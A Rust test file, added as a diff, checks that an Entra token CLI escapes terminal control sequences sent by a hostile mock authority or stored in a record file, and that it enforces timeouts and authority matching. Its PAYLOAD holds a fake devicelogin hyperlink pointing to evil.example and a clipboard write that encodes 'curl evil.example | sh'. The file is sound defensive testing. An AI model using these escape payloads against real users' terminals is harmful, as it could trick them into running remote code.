@@ -1,0 +1,324 @@
+//! The `entra` command against a hostile authority (entra-testing's `MockEntra` on
+//! `https://localhost:PORT`, reached with `SSL_CERT_FILE`, answers replaced by faults) and a
+//! hostile record file (issue 20.3, 20.4, 20.5): text that the server or a file controls
+//! reaches the terminal escaped, the configured timeout bounds the device-code wait, and a
+//! record of another authority is refused.
+// Test helpers stop loudly, like the tests themselves.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::Path;
+use std::process::Stdio;
+use std::time::Duration;
+
+use entra_testing::{Endpoint, Fault, FaultTimes, MockEntra};
+
+const SCOPE: &str = "https://graph.microsoft.com/.default";
+
+/// OSC 8 (a fake devicelogin link), OSC 52 (write the clipboard), OSC 0 (window title), CSI
+/// (clear the screen), C1 CSI and a right-to-left override: none may reach the terminal raw.
+const PAYLOAD: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\https://microsoft.com/devicelogin\u{1b}]8;;\u{1b}\\ \
+     \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}";
+
+/// One finished run of the command.
+struct Run {
+    code: Option<i32>,
+    stdout: String,
+    stderr: String,
+}
+
+impl Run {
+    /// Nothing a terminal would act on is in the output, and the payload is shown escaped.
+    fn assert_shown_escaped(&self) {
+        for (name, text) in [("stdout", &self.stdout), ("stderr", &self.stderr)] {
+            let raw: Vec<char> = text
+                .chars()
+                .filter(|&c| entra_core::is_unsafe_for_terminal(c))
+                .collect();
+            assert!(raw.is_empty(), "{name} carries {raw:?}:\n{text}");
+        }
+        assert!(
+            self.stderr.contains("\\u{1b}]8;;https://evil.example/"),
+            "the payload is shown escaped:\n{}",
+            self.stderr
+        );
+    }
+
+    fn error_line(&self) -> &str {
+        self.stderr
+            .lines()
+            .find(|l| l.starts_with("error ("))
+            .unwrap_or_else(|| panic!("no error line:\n{}", self.stderr))
+    }
+}
+
+/// Runs `entra` with `args`, trusting `ca` (the mock's root), its caches in `dir`; killed if it
+/// runs for more than a minute (a wait the command should have ended itself).
+async fn entra(dir: &Path, ca: Option<&Path>, args: &[&str]) -> Run {
+    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_entra"));
+    command
+        .args(args)
+        .env("ENTRA_TOKEN_CACHE_DIR", dir)
+        .env_remove("RUST_LOG")
+        .env_remove("AZURE_AUTHORITY_HOST")
+        .env_remove("SSH_CONNECTION")
+        .env_remove("SSH_TTY")
+        .stdin(Stdio::null())
+        .kill_on_drop(true);
+    match ca {
+        Some(ca) => command.env("SSL_CERT_FILE", ca),
+        None => command.env_remove("SSL_CERT_FILE"),
+    };
+    let output = tokio::time::timeout(Duration::from_secs(60), command.output())
+        .await
+        .expect("entra ended by itself within a minute")
+        .unwrap();
+    Run {
+        code: output.status.code(),
+        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+    }
+}
+
+/// A hostile authority: the mock on localhost with `faults`, and its root certificate in a file.
+async fn hostile(faults: Vec<(Endpoint, Fault)>) -> (MockEntra, tempfile::TempDir) {
+    let mut builder = MockEntra::builder();
+    for (endpoint, fault) in faults {
+        builder = builder.fault_times(endpoint, fault, FaultTimes::Always);
+    }
+    let mock = builder.start().await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("ca.pem"),
+        mock.ca_certificate_pem().unwrap(),
+    )
+    .unwrap();
+    (mock, dir)
+}
+
+fn json_fault(status: u16, body: &serde_json::Value) -> Fault {
+    Fault::Response {
+        status,
+        content_type: "application/json".to_owned(),
+        body: body.to_string(),
+    }
+}
+
+/// Issue 20.3 and 20.4: a device code answer whose `message` carries terminal escapes and
+/// whose `expires_in` is a billion seconds. `--timeout 3` ends the wait (with a last poll at
+/// the deadline), not the server's lifetime, and the message reaches the terminal escaped.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_device_code_answer_is_shown_escaped_and_the_timeout_bounds_the_wait() {
+    let (mock, dir) = hostile(vec![
+        (
+            Endpoint::DeviceCode,
+            json_fault(
+                200,
+                &serde_json::json!({
+                    "device_code": "DC",
+                    "user_code": "ABCD-EFGH",
+                    "verification_uri": "https://microsoft.com/devicelogin",
+                    "expires_in": 1_000_000_000u64,
+                    "interval": 1,
+                    "message": format!("To sign in, open {PAYLOAD} and enter ABCD-EFGH."),
+                }),
+            ),
+        ),
+        (
+            Endpoint::Token,
+            json_fault(
+                400,
+                &serde_json::json!({"error": "authorization_pending", "error_description": "AADSTS70016: pending"}),
+            ),
+        ),
+    ])
+    .await;
+    let authority = mock.base_url();
+    let run = entra(
+        dir.path(),
+        Some(&dir.path().join("ca.pem")),
+        &[
+            "get-token",
+            "--scope",
+            SCOPE,
+            "--authority",
+            &authority,
+            "--disable-instance-discovery",
+            "--no-cache",
+            "--device-code",
+            "--timeout",
+            "3",
+        ],
+    )
+    .await;
+    assert_eq!(run.code, Some(4), "stderr:\n{}", run.stderr);
+    assert!(
+        run.error_line()
+            .contains("Timed out after waiting 3 seconds"),
+        "{}",
+        run.error_line()
+    );
+    run.assert_shown_escaped();
+    // Polls at 0, 1, 2 and 3 s: the last one at the deadline.
+    assert_eq!(mock.count(Endpoint::Token), 4, "stderr:\n{}", run.stderr);
+}
+
+/// Issue 20.3: an `error_description` carrying terminal escapes, in the error line.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_error_description_is_shown_escaped() {
+    let (mock, dir) = hostile(vec![(
+        Endpoint::Token,
+        json_fault(
+            400,
+            &serde_json::json!({"error": "invalid_grant", "error_description": format!("AADSTS70000: {PAYLOAD}")}),
+        ),
+    )])
+    .await;
+    let authority = mock.base_url();
+    let run = entra(
+        dir.path(),
+        Some(&dir.path().join("ca.pem")),
+        &[
+            "get-token",
+            "--scope",
+            SCOPE,
+            "--authority",
+            &authority,
+            "--disable-instance-discovery",
+            "--no-cache",
+            "--device-code",
+            "--timeout",
+            "30",
+        ],
+    )
+    .await;
+    assert_eq!(run.code, Some(4), "stderr:\n{}", run.stderr);
+    assert!(
+        run.error_line().contains("AADSTS70000"),
+        "{}",
+        run.error_line()
+    );
+    run.assert_shown_escaped();
+}
+
+/// Issue 20.3: a metadata document whose `issuer` carries terminal escapes, quoted in the
+/// mismatch error.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_issuer_is_shown_escaped_in_the_mismatch_error() {
+    let (mock, dir) = hostile(vec![]).await;
+    let url = format!(
+        "{}/organizations/v2.0/.well-known/openid-configuration",
+        mock.base_url()
+    );
+    let mut document: serde_json::Value = mock
+        .http_client()
+        .get(&url)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    document["issuer"] = format!("https://evil.example/{PAYLOAD}").into();
+    mock.inject_fault(Endpoint::OpenIdConfiguration, json_fault(200, &document));
+    let authority = mock.base_url();
+    let run = entra(
+        dir.path(),
+        Some(&dir.path().join("ca.pem")),
+        &[
+            "get-token",
+            "--scope",
+            SCOPE,
+            "--authority",
+            &authority,
+            "--disable-instance-discovery",
+            "--no-cache",
+            "--device-code",
+        ],
+    )
+    .await;
+    assert_ne!(run.code, Some(0), "stderr:\n{}", run.stderr);
+    assert!(run.error_line().contains("issuer"), "{}", run.error_line());
+    run.assert_shown_escaped();
+}
+
+/// An account record as `--record` reads it.
+fn record(username: &str, environment: &str) -> String {
+    serde_json::json!({
+        "authority": environment,
+        "clientId": "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
+        "homeAccountId": "oid.11111111-2222-4333-8444-555555555555",
+        "tenantId": "11111111-2222-4333-8444-555555555555",
+        "username": username,
+        "version": "1.0",
+    })
+    .to_string()
+}
+
+/// Issue 20.3: a record file's username carrying terminal escapes, printed when the command
+/// says which account it uses.
+#[tokio::test]
+async fn a_hostile_username_in_a_record_file_is_shown_escaped() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("record.json");
+    std::fs::write(
+        &path,
+        record(
+            &format!("{PAYLOAD}alice@contoso.com"),
+            "login.microsoftonline.com",
+        ),
+    )
+    .unwrap();
+    let run = entra(
+        dir.path(),
+        None,
+        &[
+            "get-token",
+            "--scope",
+            SCOPE,
+            "--record",
+            path.to_str().unwrap(),
+            "--no-cache",
+            "--no-prompt",
+        ],
+    )
+    .await;
+    assert_eq!(run.code, Some(5), "stderr:\n{}", run.stderr);
+    assert!(run.stderr.contains("alice@contoso.com"), "{}", run.stderr);
+    run.assert_shown_escaped();
+}
+
+/// Issue 20.5: `--record` of another authority than `--authority` names: refused before any
+/// request, naming both hosts and the flags to change; the record file is left as it is.
+#[tokio::test]
+async fn a_record_of_another_authority_is_refused_and_left_as_it_is() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("record.json");
+    let text = record("alice@contoso.com", "login.evil.example");
+    std::fs::write(&path, &text).unwrap();
+    let run = entra(
+        dir.path(),
+        None,
+        &[
+            "get-token",
+            "--scope",
+            SCOPE,
+            "--record",
+            path.to_str().unwrap(),
+            "--authority",
+            "login.microsoftonline.com",
+            "--no-cache",
+        ],
+    )
+    .await;
+    assert_eq!(run.code, Some(2), "stderr:\n{}", run.stderr);
+    let line = run.error_line();
+    for part in [
+        "login.evil.example",
+        "login.microsoftonline.com",
+        "--authority",
+        "--record",
+    ] {
+        assert!(line.contains(part), "{part}: {line}");
+    }
+    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
+}
